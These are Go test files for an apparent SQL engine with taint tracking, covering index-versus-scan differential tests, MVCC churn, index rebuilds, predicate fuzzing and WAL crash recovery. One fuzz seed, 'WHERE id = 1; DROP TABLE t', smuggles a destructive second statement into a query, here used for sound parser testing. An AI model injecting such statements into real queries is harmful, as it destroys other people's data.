			q += " DESC"
		}
	}
	if r.Intn(4) == 0 {
		q += fmt.Sprintf(" LIMIT %d", r.Intn(12))
	}
	return q
}

// TestIndexScanDifferentialProperty is the seeded random workload:
// DDL, tainted INSERT/UPDATE/DELETE, index churn on the indexed side
// only, and a stream of random SELECTs diffed between the two engines.
func TestIndexScanDifferentialProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(20090211)) // seeded: reruns are identical
	rt := core.NewRuntime()
	w := &diffWorkload{t: t, indexed: Open(rt), scan: Open(rt), rng: rng}

	w.exec(core.NewString("CREATE TABLE w (id INT, name TEXT, val INT, tag TEXT)"))
	w.indexed.MustExec("CREATE INDEX ON w (id)")
	w.indexed.MustExec("CREATE INDEX ON w (name)")

	taint := func(s string) core.String {
		return core.NewStringPolicy(s, &sanitize.UntrustedData{Source: "diff"})
	}
	words := []string{"ant", "antler", "anthem", "bee", "beetle", "cat", "dog", "zz", ""}
	randWord := func() string { return words[rng.Intn(len(words))] }

	nextID := 0
	for op := 0; op < 400; op++ {
		switch rng.Intn(10) {
		case 0, 1, 2, 3: // INSERT, every value possibly tainted or NULL
			var q core.String
			if rng.Intn(3) == 0 {
				q = core.Concat(
					core.NewString(fmt.Sprintf("INSERT INTO w (id, name, val, tag) VALUES (%d, '", nextID)),
					taint(randWord()),
					core.NewString(fmt.Sprintf("', %d, '%s')", rng.Intn(30)-5, randWord())),
				)
			} else {
				name, valLit := randWord(), fmt.Sprintf("%d", rng.Intn(30)-5)
				if rng.Intn(8) == 0 {
					valLit = "NULL"
				}
				idLit := fmt.Sprintf("%d", nextID)
				if rng.Intn(10) == 0 {
					idLit = "NULL"
				}
				q = core.NewString(fmt.Sprintf(
					"INSERT INTO w (id, name, val, tag) VALUES (%s, '%s', %s, '%s')",
					idLit, name, valLit, randWord()))
			}
			nextID++
			w.exec(q)
		case 4, 5: // UPDATE that moves rows between index keys
			q := core.Concat(
				core.NewString("UPDATE w SET name = '"),
				taint(randWord()),
				core.NewString(fmt.Sprintf("', id = %d WHERE %s", rng.Intn(40)-5, w.randPredicate(1))),
			)
			w.exec(q)
		case 6: // DELETE (positions shift; indexes rebuild)
			w.exec(core.NewString("DELETE FROM w WHERE " + w.randPredicate(1)))
		case 7: // index churn on the indexed side only
			col := []string{"id", "name", "val"}[rng.Intn(3)]
			if _, err := w.indexed.QueryRaw("DROP INDEX ON w (" + col + ")"); err != nil {
				w.indexed.MustExec("CREATE INDEX ON w (" + col + ")")
			}
		default: // a batch of random SELECTs
			for i := 0; i < 4; i++ {
				diffSelect(t, w.indexed, w.scan, w.randSelect())
			}
		}
	}

	// A fixed battery over the final state: the shapes the analyzer
	// special-cases, each diffed against the scan twin.
	for _, q := range []string{
		"SELECT * FROM w WHERE id >= 5 AND id < 20 ORDER BY id",
		"SELECT * FROM w WHERE id >= 5 AND id < 20 ORDER BY id DESC",
		"SELECT name FROM w WHERE id > 5 AND id > 10 AND id <= 25",
		"SELECT name FROM w WHERE 10 <= id AND 20 > id ORDER BY name",
		"SELECT id, name FROM w WHERE name LIKE 'ant%' ORDER BY name",
		"SELECT id, name FROM w WHERE name LIKE 'ant%' ORDER BY name DESC",
		"SELECT id, name FROM w WHERE name LIKE '%' ORDER BY id",
		"SELECT id, name FROM w WHERE name LIKE ''",
		"SELECT * FROM w WHERE id < '5'",
		"SELECT * FROM w WHERE id = 7 ORDER BY id DESC",
		"SELECT * FROM w WHERE val > 3 ORDER BY val LIMIT 5",
		"SELECT * FROM w ORDER BY id",
		"SELECT * FROM w ORDER BY id DESC",
		"SELECT * FROM w ORDER BY name LIMIT 7",
		"SELECT * FROM w WHERE id > NULL",
		"SELECT * FROM w WHERE id >= 0 AND name LIKE 'be%' ORDER BY id DESC LIMIT 3",
	} {
		diffSelect(t, w.indexed, w.scan, q)
	}
}

// TestIndexScanDifferentialUnderChurn is the MVCC extension of the
// differential harness: instead of two quiescent twin databases, ONE
// database churns under concurrent writers while the main loop pins a
// snapshot and runs each random SELECT twice against that same snapshot
// — once through the index planner, once with ForceScan. The two
// executions must agree byte for byte (rows, order, and the shadow
// policy columns Star projects at engine level), which proves the
// visible-key rule filters index candidates down to exactly what a
// scan of the same version frontier sees, even mid-churn.
func TestIndexScanDifferentialUnderChurn(t *testing.T) {
	rng := rand.New(rand.NewSource(20090211))
	db := openDB(t)
	db.MustExec("CREATE TABLE w (id INT, name TEXT, val INT, tag TEXT)")
	db.MustExec("CREATE INDEX ON w (id)")
	db.MustExec("CREATE INDEX ON w (name)")
	taint := func(s string) core.String {
		return core.NewStringPolicy(s, &sanitize.UntrustedData{Source: "churn"})
	}
	words := []string{"ant", "antler", "bee", "beetle", "cat", "zz", ""}
	for i := 0; i < 30; i++ {
		if _, err := db.QueryRaw("INSERT INTO w (id, name, val, tag) VALUES (?, ?, ?, ?)",
			i%20, taint(words[i%len(words)]), i%7, words[(i+3)%len(words)]); err != nil {
			t.Fatal(err)
		}
	}

	stop := make(chan struct{})
	var wg sync.WaitGroup
	for wi := 0; wi < 2; wi++ {
		wg.Add(1)
		go func(seed int64) {
			defer wg.Done()
			wrng := rand.New(rand.NewSource(seed))
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				id := wrng.Intn(25)
				var err error
				switch wrng.Intn(3) {
				case 0:
					_, err = db.QueryRaw("INSERT INTO w (id, name, val, tag) VALUES (?, ?, ?, ?)",
						id, taint(words[wrng.Intn(len(words))]), wrng.Intn(7), words[wrng.Intn(len(words))])
				case 1:
					_, err = db.QueryRaw("UPDATE w SET name = ?, id = ? WHERE id = ?",
						taint(words[wrng.Intn(len(words))]), wrng.Intn(25), id)
				case 2:
					_, err = db.QueryRaw("DELETE FROM w WHERE id = ? AND val = ?", id, wrng.Intn(7))
				}
				if err != nil {
					t.Errorf("churn writer: %v", err)
					return
				}
			}
		}(rng.Int63())
	}

	w := &diffWorkload{t: t, rng: rng}
	iters := 400
	if testing.Short() {
		iters = 60
	}
	e := db.Engine()
	for i := 0; i < iters; i++ {
		qtext := w.randSelect()
		stmt, err := Parse(core.NewString(qtext))
		if err != nil {
			t.Fatalf("%s: parse: %v", qtext, err)
		}
		sel := stmt.(*Select)

		// Pin one snapshot under the read lock (so vacuum keeps its
		// versions), then run both access paths against it lock-free
		// while the writers keep moving the frontier.
		e.mu.RLock()
		snap := e.acquireSnap()
		e.mu.RUnlock()
		indexed, ierr := e.selectAt(nil, sel, &snap)
		forced := *sel
		forced.ForceScan = true
		scanned, serr := e.selectAt(nil, &forced, &snap)
		e.releaseSnap(snap)

		if (ierr == nil) != (serr == nil) {
			t.Fatalf("%s: indexed err=%v, scan err=%v", qtext, ierr, serr)
		}
		if ierr != nil {
			if ierr.Error() != serr.Error() {
				t.Fatalf("%s: error text differs:\n  indexed %v\n  scan    %v", qtext, ierr, serr)
			}
			continue
		}
		if !reflect.DeepEqual(indexed, scanned) {
			t.Fatalf("%s @ snap %d: index path diverged from scan of the same snapshot\nindexed: %+v\nscan:    %+v",
				qtext, snap, indexed, scanned)
		}
	}
	close(stop)
	wg.Wait()
}

// canonicalBuckets projects an ordered index down to the pairs the
// visible-key traversal rule actually serves at the frontier: for every
// (key, id) in a bucket, keep it only when id's visible version carries
// that key. MVCC buckets are supersets (stale pairs wait for vacuum),
// so this projection — not raw buckets — is the structure that defines
// index equality.
func canonicalBuckets(tbl *table, ix *orderedIndex, ci int, frontier uint64) map[string][]uint64 {
	eff := make(map[string][]uint64)
	for k, bucket := range ix.m {
		for _, id := range bucket {
			en := tbl.byID[id]
			if en == nil {
				continue
			}
			v := en.visible(frontier)
			if v == nil || indexKey(v.vals[ci]) != k {
				continue
			}
			eff[k] = append(eff[k], id)
		}
	}
	return eff
}

// TestOrderedIndexRebuildMatchesIncremental pins effective structural
// identity: an index maintained incrementally through INSERT/UPDATE/
// DELETE (tombstones, stale pairs and all) must serve exactly the same
// (key, row id) pairs as an index built from scratch over the same
// version chains — and both must hold the superset invariant: every
// row's visible key is present in its bucket. WAL replay and snapshot
// recovery lean on this (they rebuild via CREATE INDEX).
func TestOrderedIndexRebuildMatchesIncremental(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, name TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	db.MustExec("CREATE INDEX ON t (name)")
	for i := 0; i < 300; i++ {
		switch rng.Intn(5) {
		case 0:
			db.MustExec(fmt.Sprintf("UPDATE t SET id = %d WHERE id = %d", rng.Intn(50), rng.Intn(50)))
		case 1:
			if rng.Intn(3) == 0 {
				db.MustExec(fmt.Sprintf("DELETE FROM t WHERE id = %d", rng.Intn(50)))
			}
		default:
			idLit := fmt.Sprintf("%d", rng.Intn(50))
			if rng.Intn(10) == 0 {
				idLit = "NULL"
			}
			db.MustExec(fmt.Sprintf("INSERT INTO t (id, name) VALUES (%s, '%s')", idLit, strings.Repeat("x", rng.Intn(3))+fmt.Sprint(rng.Intn(9))))
		}
	}
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	frontier := e.frontier.Load()
	tbl := e.tables["t"]
	for ci, live := range tbl.indexes {
		rebuilt, _ := buildIndex(tbl.entries, ci)
		liveEff := canonicalBuckets(tbl, live, ci, frontier)
		rebuiltEff := canonicalBuckets(tbl, rebuilt, ci, frontier)
		if !reflect.DeepEqual(liveEff, rebuiltEff) {
			t.Fatalf("col %d: incremental index serves different pairs than a from-scratch build\nlive:    %v\nrebuilt: %v", ci, liveEff, rebuiltEff)
		}
		// Superset invariant, both structures: every visible row must be
		// findable under its visible key.
		for _, en := range tbl.entries {
			v := en.visible(frontier)
			if v == nil {
				continue
			}
			k := indexKey(v.vals[ci])
			for which, ix := range map[string]*orderedIndex{"live": live, "rebuilt": rebuilt} {
				found := false
				for _, id := range ix.m[k] {
					if id == en.id {
						found = true
						break
					}
				}
				if !found {
					t.Fatalf("col %d: %s index lost row %d under key %q", ci, which, en.id, k)
				}
			}
		}
	}
}
