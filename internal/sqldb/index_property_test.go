package sqldb

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// The scan-vs-index differential harness: the same workload executes
// against two databases — one that declares (and churns) ordered
// indexes, and a forced-scan twin that never declares any — and every
// SELECT must return byte-identical rows, in identical order, with
// identical decoded policy sets. This is what turns docs/SQL.md §4's
// "index use can never change results" from a sentence into a tested
// invariant. FuzzPredicateAnalyzer reuses requireSameResults over
// adversarial WHERE/ORDER BY text.

// requireSameResults fails the test when two results differ in columns,
// row count, row order, cell bytes, or serialized policy annotations.
func requireSameResults(t testing.TB, q string, indexed, scan *Result) {
	t.Helper()
	if len(indexed.Columns) != len(scan.Columns) {
		t.Fatalf("%s: column count indexed=%d scan=%d", q, len(indexed.Columns), len(scan.Columns))
	}
	for i := range indexed.Columns {
		if indexed.Columns[i] != scan.Columns[i] {
			t.Fatalf("%s: column %d indexed=%q scan=%q", q, i, indexed.Columns[i], scan.Columns[i])
		}
	}
	if indexed.Len() != scan.Len() {
		t.Fatalf("%s: indexed %d rows, scan %d rows", q, indexed.Len(), scan.Len())
	}
	for i := range indexed.Rows {
		for j := range indexed.Rows[i] {
			a, b := indexed.Rows[i][j], scan.Rows[i][j]
			if a.Null != b.Null || a.IsInt != b.IsInt {
				t.Fatalf("%s: row %d col %d shape differs (null %v/%v, int %v/%v)",
					q, i, j, a.Null, b.Null, a.IsInt, b.IsInt)
			}
			at, bt := a.Text(), b.Text()
			if at.Raw() != bt.Raw() {
				t.Fatalf("%s: row %d col %d: indexed %q, scan %q", q, i, j, at.Raw(), bt.Raw())
			}
			aa, err := core.EncodeSpans(at)
			if err != nil {
				t.Fatalf("%s: encode indexed policies: %v", q, err)
			}
			ba, err := core.EncodeSpans(bt)
			if err != nil {
				t.Fatalf("%s: encode scan policies: %v", q, err)
			}
			if string(aa) != string(ba) {
				t.Fatalf("%s: row %d col %d policy sets differ:\n  indexed %s\n  scan    %s", q, i, j, aa, ba)
			}
		}
	}
}

// diffSelect runs one SELECT against both databases, requires matching
// error behavior, and (on success) identical results.
func diffSelect(t testing.TB, indexed, scan *DB, q string) {
	t.Helper()
	a, aerr := indexed.QueryRaw(q)
	b, berr := scan.QueryRaw(q)
	if (aerr == nil) != (berr == nil) {
		t.Fatalf("%s: indexed err=%v, scan err=%v", q, aerr, berr)
	}
	if aerr != nil {
		if aerr.Error() != berr.Error() {
			t.Fatalf("%s: error text differs:\n  indexed %v\n  scan    %v", q, aerr, berr)
		}
		return
	}
	requireSameResults(t, q, a, b)
}

// diffWorkload drives both databases through identical DML (the tracked
// query text is shared, so taints match byte for byte); index DDL goes
// only to the indexed side.
type diffWorkload struct {
	t             testing.TB
	indexed, scan *DB
	rng           *rand.Rand
}

func (w *diffWorkload) exec(q core.String) {
	w.t.Helper()
	_, aerr := w.indexed.Query(q)
	_, berr := w.scan.Query(q)
	if (aerr == nil) != (berr == nil) {
		w.t.Fatalf("%s: indexed err=%v, scan err=%v", q.Raw(), aerr, berr)
	}
}

// randLiteral renders a random literal for column col of the workload
// table: ints (sometimes as quoted digit strings), prefixed words, and
// NULL all occur.
func (w *diffWorkload) randLiteral(col string) string {
	r := w.rng
	if r.Intn(12) == 0 {
		return "NULL"
	}
	switch col {
	case "id", "val":
		n := r.Intn(40) - 5
		if r.Intn(6) == 0 {
			return fmt.Sprintf("'%d'", n) // string literal against INT column
		}
		return fmt.Sprintf("%d", n)
	default:
		words := []string{"ant", "antler", "bee", "beetle", "cat", "", "zz", "ant%", "a_t"}
		return "'" + words[r.Intn(len(words))] + "'"
	}
}

// randPredicate builds a random WHERE expression of bounded depth over
// the workload table's columns.
func (w *diffWorkload) randPredicate(depth int) string {
	r := w.rng
	if depth <= 0 || r.Intn(3) > 0 {
		cols := []string{"id", "name", "val", "tag"}
		col := cols[r.Intn(len(cols))]
		ops := []string{"=", "!=", "<", "<=", ">", ">=", "LIKE"}
		op := ops[r.Intn(len(ops))]
		lit := w.randLiteral(col)
		if r.Intn(8) == 0 { // reversed operand order
			return fmt.Sprintf("%s %s %s", lit, op, col)
		}
		return fmt.Sprintf("%s %s %s", col, op, lit)
	}
	l, rr := w.randPredicate(depth-1), w.randPredicate(depth-1)
	switch r.Intn(4) {
	case 0:
		return fmt.Sprintf("(%s) OR (%s)", l, rr)
	case 1:
		return fmt.Sprintf("NOT (%s)", l)
	default: // AND twice as likely: that's the spine the analyzer mines
		return fmt.Sprintf("(%s) AND (%s)", l, rr)
	}
}

// randSelect builds a random SELECT mixing projections, predicates,
// ORDER BY ASC|DESC, and LIMIT.
func (w *diffWorkload) randSelect() string {
	r := w.rng
	proj := []string{"*", "id, name", "name, val, tag", "id, id, name"}[r.Intn(4)]
	q := "SELECT " + proj + " FROM w"
	if r.Intn(5) > 0 {
		q += " WHERE " + w.randPredicate(2)
	}
	if r.Intn(3) > 0 {
		q += " ORDER BY " + []string{"id", "name", "val", "tag"}[r.Intn(4)]
		if r.Intn(2) == 0 {
			q += " DESC"
		}
	}
	if r.Intn(4) == 0 {
		q += fmt.Sprintf(" LIMIT %d", r.Intn(12))
	}
	return q
}

// TestIndexScanDifferentialProperty is the seeded random workload:
// DDL, tainted INSERT/UPDATE/DELETE, index churn on the indexed side
// only, and a stream of random SELECTs diffed between the two engines.
func TestIndexScanDifferentialProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(20090211)) // seeded: reruns are identical
	rt := core.NewRuntime()
	w := &diffWorkload{t: t, indexed: Open(rt), scan: Open(rt), rng: rng}

	w.exec(core.NewString("CREATE TABLE w (id INT, name TEXT, val INT, tag TEXT)"))
	w.indexed.MustExec("CREATE INDEX ON w (id)")
	w.indexed.MustExec("CREATE INDEX ON w (name)")

	taint := func(s string) core.String {
		return core.NewStringPolicy(s, &sanitize.UntrustedData{Source: "diff"})
	}
	words := []string{"ant", "antler", "anthem", "bee", "beetle", "cat", "dog", "zz", ""}
	randWord := func() string { return words[rng.Intn(len(words))] }

	nextID := 0
	for op := 0; op < 400; op++ {
		switch rng.Intn(10) {
		case 0, 1, 2, 3: // INSERT, every value possibly tainted or NULL
			var q core.String
			if rng.Intn(3) == 0 {
				q = core.Concat(
					core.NewString(fmt.Sprintf("INSERT INTO w (id, name, val, tag) VALUES (%d, '", nextID)),
					taint(randWord()),
					core.NewString(fmt.Sprintf("', %d, '%s')", rng.Intn(30)-5, randWord())),
				)
			} else {
				name, valLit := randWord(), fmt.Sprintf("%d", rng.Intn(30)-5)
				if rng.Intn(8) == 0 {
					valLit = "NULL"
				}
				idLit := fmt.Sprintf("%d", nextID)
				if rng.Intn(10) == 0 {
					idLit = "NULL"
				}
				q = core.NewString(fmt.Sprintf(
					"INSERT INTO w (id, name, val, tag) VALUES (%s, '%s', %s, '%s')",
					idLit, name, valLit, randWord()))
			}
			nextID++
			w.exec(q)
		case 4, 5: // UPDATE that moves rows between index keys
			q := core.Concat(
				core.NewString("UPDATE w SET name = '"),
				taint(randWord()),
				core.NewString(fmt.Sprintf("', id = %d WHERE %s", rng.Intn(40)-5, w.randPredicate(1))),
			)
			w.exec(q)
		case 6: // DELETE (positions shift; indexes rebuild)
			w.exec(core.NewString("DELETE FROM w WHERE " + w.randPredicate(1)))
		case 7: // index churn on the indexed side only
			col := []string{"id", "name", "val"}[rng.Intn(3)]
			if _, err := w.indexed.QueryRaw("DROP INDEX ON w (" + col + ")"); err != nil {
				w.indexed.MustExec("CREATE INDEX ON w (" + col + ")")
			}
		default: // a batch of random SELECTs
			for i := 0; i < 4; i++ {
				diffSelect(t, w.indexed, w.scan, w.randSelect())
			}
		}
	}

	// A fixed battery over the final state: the shapes the analyzer
	// special-cases, each diffed against the scan twin.
	for _, q := range []string{
		"SELECT * FROM w WHERE id >= 5 AND id < 20 ORDER BY id",
		"SELECT * FROM w WHERE id >= 5 AND id < 20 ORDER BY id DESC",
		"SELECT name FROM w WHERE id > 5 AND id > 10 AND id <= 25",
		"SELECT name FROM w WHERE 10 <= id AND 20 > id ORDER BY name",
		"SELECT id, name FROM w WHERE name LIKE 'ant%' ORDER BY name",
		"SELECT id, name FROM w WHERE name LIKE 'ant%' ORDER BY name DESC",
		"SELECT id, name FROM w WHERE name LIKE '%' ORDER BY id",
		"SELECT id, name FROM w WHERE name LIKE ''",
		"SELECT * FROM w WHERE id < '5'",
		"SELECT * FROM w WHERE id = 7 ORDER BY id DESC",
		"SELECT * FROM w WHERE val > 3 ORDER BY val LIMIT 5",
		"SELECT * FROM w ORDER BY id",
		"SELECT * FROM w ORDER BY id DESC",
		"SELECT * FROM w ORDER BY name LIMIT 7",
		"SELECT * FROM w WHERE id > NULL",
		"SELECT * FROM w WHERE id >= 0 AND name LIKE 'be%' ORDER BY id DESC LIMIT 3",
	} {
		diffSelect(t, w.indexed, w.scan, q)
	}
}

// TestOrderedIndexRebuildMatchesIncremental pins structural identity:
// an index maintained incrementally through INSERT/UPDATE (and rebuilt
// by DELETE) must deep-equal an index built from scratch over the same
// rows — same sorted key sequence, same buckets, same ascending
// positions. WAL replay and snapshot recovery lean on this (they
// rebuild via CREATE INDEX).
func TestOrderedIndexRebuildMatchesIncremental(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, name TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	db.MustExec("CREATE INDEX ON t (name)")
	for i := 0; i < 300; i++ {
		switch rng.Intn(5) {
		case 0:
			db.MustExec(fmt.Sprintf("UPDATE t SET id = %d WHERE id = %d", rng.Intn(50), rng.Intn(50)))
		case 1:
			if rng.Intn(3) == 0 {
				db.MustExec(fmt.Sprintf("DELETE FROM t WHERE id = %d", rng.Intn(50)))
			}
		default:
			idLit := fmt.Sprintf("%d", rng.Intn(50))
			if rng.Intn(10) == 0 {
				idLit = "NULL"
			}
			db.MustExec(fmt.Sprintf("INSERT INTO t (id, name) VALUES (%s, '%s')", idLit, strings.Repeat("x", rng.Intn(3))+fmt.Sprint(rng.Intn(9))))
		}
	}
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	tbl := e.tables["t"]
	for ci, live := range tbl.indexes {
		rebuilt := buildIndex(tbl.rows, ci)
		if len(live.vals) != len(rebuilt.vals) {
			t.Fatalf("col %d: %d live keys vs %d rebuilt", ci, len(live.vals), len(rebuilt.vals))
		}
		for i := range live.vals {
			if indexKey(live.vals[i]) != indexKey(rebuilt.vals[i]) {
				t.Fatalf("col %d: key %d: live %q rebuilt %q", ci, i, indexKey(live.vals[i]), indexKey(rebuilt.vals[i]))
			}
		}
		if len(live.m) != len(rebuilt.m) {
			t.Fatalf("col %d: bucket count %d vs %d", ci, len(live.m), len(rebuilt.m))
		}
		for k, bucket := range live.m {
			rb := rebuilt.m[k]
			if len(bucket) != len(rb) {
				t.Fatalf("col %d key %q: bucket %v vs %v", ci, k, bucket, rb)
			}
			for i := range bucket {
				if bucket[i] != rb[i] {
					t.Fatalf("col %d key %q: bucket %v vs %v", ci, k, bucket, rb)
				}
			}
		}
	}
}
