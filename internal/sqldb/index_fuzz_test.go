package sqldb

import (
	"fmt"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// FuzzPredicateAnalyzer feeds arbitrary WHERE/ORDER BY text to the same
// SELECT over a small indexed table and its forced-scan twin. The
// invariants: never panic, fail identically (same error text) or
// succeed identically (same rows, order, and decoded policy sets —
// requireSameResults from the differential harness). Runs in the CI
// fuzz smoke alongside FuzzWALReplay.
func FuzzPredicateAnalyzer(f *testing.F) {
	rt := core.NewRuntime()
	indexed, scan := Open(rt), Open(rt)
	indexed.MustExec("CREATE TABLE t (id INT, name TEXT, val INT)")
	scan.MustExec("CREATE TABLE t (id INT, name TEXT, val INT)")
	// Seed both tables identically — NULLs included, names tainted so
	// the diff covers policy decode through both access paths.
	for i := 0; i < 30; i++ {
		idLit := fmt.Sprintf("%d", i%13)
		if i%9 == 0 {
			idLit = "NULL"
		}
		q := core.Concat(
			core.NewString(fmt.Sprintf("INSERT INTO t (id, name, val) VALUES (%s, '", idLit)),
			core.NewStringPolicy(fmt.Sprintf("w%d", i%7), &sanitize.UntrustedData{Source: "fuzz"}),
			core.NewString(fmt.Sprintf("', %d)", i%5)),
		)
		if _, err := indexed.Query(q); err != nil {
			f.Fatal(err)
		}
		if _, err := scan.Query(q); err != nil {
			f.Fatal(err)
		}
	}
	indexed.MustExec("CREATE INDEX ON t (id)")
	indexed.MustExec("CREATE INDEX ON t (name)")

	for _, seed := range []string{
		"WHERE id = 3",
		"WHERE id > 1 AND id < 9 ORDER BY id DESC",
		"WHERE id >= 1 AND 9 >= id ORDER BY id",
		"WHERE name LIKE 'w%' ORDER BY name",
		"WHERE name LIKE '%' ORDER BY name DESC LIMIT 3",
		"WHERE name LIKE 'w_%'",
		"WHERE id < '5'",
		"WHERE id > NULL ORDER BY val",
		"WHERE NOT (id < 5) AND name = 'w1'",
		"WHERE id = 2 OR id = 4 ORDER BY id",
		"ORDER BY name",
		"ORDER BY missing",
		"WHERE",
		"WHERE id = 1; DROP TABLE t",
	} {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, tail string) {
		q := "SELECT id, name, val FROM t " + tail
		a, aerr := indexed.QueryRaw(q)
		b, berr := scan.QueryRaw(q)
		if (aerr == nil) != (berr == nil) {
			t.Fatalf("%q: indexed err=%v, scan err=%v", q, aerr, berr)
		}
		if aerr != nil {
			if aerr.Error() != berr.Error() {
				t.Fatalf("%q: error text differs:\n  indexed %v\n  scan    %v", q, aerr, berr)
			}
			return
		}
		requireSameResults(t, q, a, b)
	})
}
