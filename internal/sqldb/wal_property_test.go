package sqldb

import (
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// tableState is a test dump of one table: schema, visible rows with
// their stable ids in ascending-id scan order (policy columns included
// as data — their bytes are the serialized annotations, so equality
// here is annotation equality), and indexed columns. Comparing ids as
// well as values pins that recovery rebuilds the *identity* of every
// row, not just its contents — the property per-row conflict detection
// depends on.
type tableState struct {
	cols    []ColumnDef
	ids     []uint64
	rows    [][]value
	indexed []string
}

// dumpEngine snapshots the committed (frontier-visible) engine state for
// equality comparison.
func dumpEngine(e *Engine) map[string]tableState {
	e.mu.RLock()
	defer e.mu.RUnlock()
	frontier := e.frontier.Load()
	out := make(map[string]tableState, len(e.tables))
	for key, t := range e.tables {
		ts := tableState{cols: append([]ColumnDef(nil), t.cols...)}
		for _, en := range t.entries {
			if v := en.visible(frontier); v != nil {
				ts.ids = append(ts.ids, en.id)
				ts.rows = append(ts.rows, append([]value(nil), v.vals...))
			}
		}
		for ci := range t.indexes {
			ts.indexed = append(ts.indexed, t.cols[ci].Name)
		}
		sort.Strings(ts.indexed)
		out[key] = ts
	}
	return out
}

// TestWALCrashRecoveryProperty runs a seeded randomized DDL/DML workload
// (tainted values included) against a persistent database, then replays
// a crash at every record boundary and at several mid-record offsets:
// copy-truncate the log, reopen, and require the recovered tables,
// indexes, and shadow policy columns to equal the state at the last
// durable point at or before the cut — a standalone statement's record
// end, or a transaction's commit marker (an offset inside a begin..commit
// group recovers to the state before the group).
func TestWALCrashRecoveryProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(20090211)) // seeded: reruns are identical
	dir := t.TempDir()
	path := filepath.Join(dir, "workload.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)

	type durablePoint struct {
		off   int64
		state map[string]tableState
	}
	points := []durablePoint{{db.WALSize(), dumpEngine(db.Engine())}}
	checkpoint := func() {
		points = append(points, durablePoint{db.WALSize(), dumpEngine(db.Engine())})
	}

	tables := []string{"alpha", "beta", "gamma"}
	live := map[string]bool{}
	taint := func(s string) core.String {
		return core.NewStringPolicy(s, &sanitize.UntrustedData{Source: "prop"})
	}
	someTable := func() (string, bool) {
		var names []string
		for n, ok := range live {
			if ok {
				names = append(names, n)
			}
		}
		if len(names) == 0 {
			return "", false
		}
		sort.Strings(names) // map order must not leak into the workload
		return names[rng.Intn(len(names))], true
	}
	mutate := func(q func(q core.String, args ...any) (*Result, error)) {
		name, ok := someTable()
		if !ok {
			return
		}
		id := rng.Intn(20)
		var err error
		switch rng.Intn(4) {
		case 0, 1:
			_, err = q(core.NewString("INSERT INTO "+name+" (id, val) VALUES (?, ?)"),
				id, taint(fmt.Sprintf("v%d", rng.Intn(1000))))
		case 2:
			_, err = q(core.NewString("UPDATE "+name+" SET val = ? WHERE id = ?"),
				taint(fmt.Sprintf("u%d", rng.Intn(1000))), id)
		case 3:
			_, err = q(core.NewString("DELETE FROM "+name+" WHERE id = ?"), id)
		}
		if err != nil {
			t.Fatalf("workload mutation on %s: %v", name, err)
		}
	}

	for op := 0; op < 90; op++ {
		switch r := rng.Intn(10); {
		case r == 0: // DDL: create or drop a pool table
			name := tables[rng.Intn(len(tables))]
			if live[name] {
				if rng.Intn(2) == 0 {
					db.MustExec("DROP TABLE " + name)
					live[name] = false
				} else if _, err := db.QueryRaw("CREATE INDEX ON " + name + " (id)"); err != nil {
					// duplicate index: fine, state unchanged
					checkpoint()
					continue
				}
			} else {
				db.MustExec("CREATE TABLE " + name + " (id INT, val TEXT)")
				live[name] = true
			}
		case r == 1: // transaction: a few writes, commit or roll back
			tx := db.Begin()
			n := 1 + rng.Intn(3)
			for i := 0; i < n; i++ {
				mutate(tx.Query)
			}
			if rng.Intn(4) == 0 {
				if err := tx.Rollback(); err != nil {
					t.Fatal(err)
				}
			} else if err := tx.Commit(); err != nil {
				t.Fatal(err)
			}
		default:
			mutate(db.Query)
		}
		checkpoint()
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	ends := walRecordEnds(data)
	if len(ends) < 50 {
		t.Fatalf("workload produced only %d records", len(ends))
	}

	expectAt := func(off int64) map[string]tableState {
		best := points[0].state
		for _, p := range points {
			if p.off <= off {
				best = p.state
			}
		}
		return best
	}

	var cuts []int64
	for i, e := range ends {
		cuts = append(cuts, e) // every record boundary
		if i+1 < len(ends) {   // several mid-record offsets
			next := ends[i+1]
			if e+1 < next {
				cuts = append(cuts, e+1)
			}
			if mid := (e + next) / 2; mid > e && mid < next {
				cuts = append(cuts, mid)
			}
		}
	}
	cuts = append(cuts, int64(len(data))-1)

	crash := filepath.Join(dir, "crash.wal")
	for _, off := range cuts {
		if off > int64(len(data)) {
			continue
		}
		if err := os.WriteFile(crash, data[:off], 0o644); err != nil {
			t.Fatal(err)
		}
		db2, err := OpenDB(rt, crash)
		if err != nil {
			t.Fatalf("cut at %d: recovery failed: %v", off, err)
		}
		got := dumpEngine(db2.Engine())
		want := expectAt(off)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("cut at %d: recovered state diverges from committed prefix\ngot:  %+v\nwant: %+v", off, got, want)
		}
		db2.Close()
	}
}
