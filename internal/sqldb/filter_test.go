package sqldb

import (
	"strings"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// passwordPolicy mimics the HotCRP password policy for persistence tests.
type passwordPolicy struct {
	Email string `json:"email"`
}

func (p *passwordPolicy) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	core.RegisterPolicyClass("sqltest.PasswordPolicy", &passwordPolicy{})
}

func openDB(t *testing.T) *DB {
	t.Helper()
	return Open(core.NewRuntime())
}

func TestCreateAddsPolicyColumns(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE users (name TEXT, password TEXT, age INT)")
	schema, err := db.Engine().Schema("users")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, c := range schema {
		names = append(names, c.Name)
	}
	joined := strings.Join(names, ",")
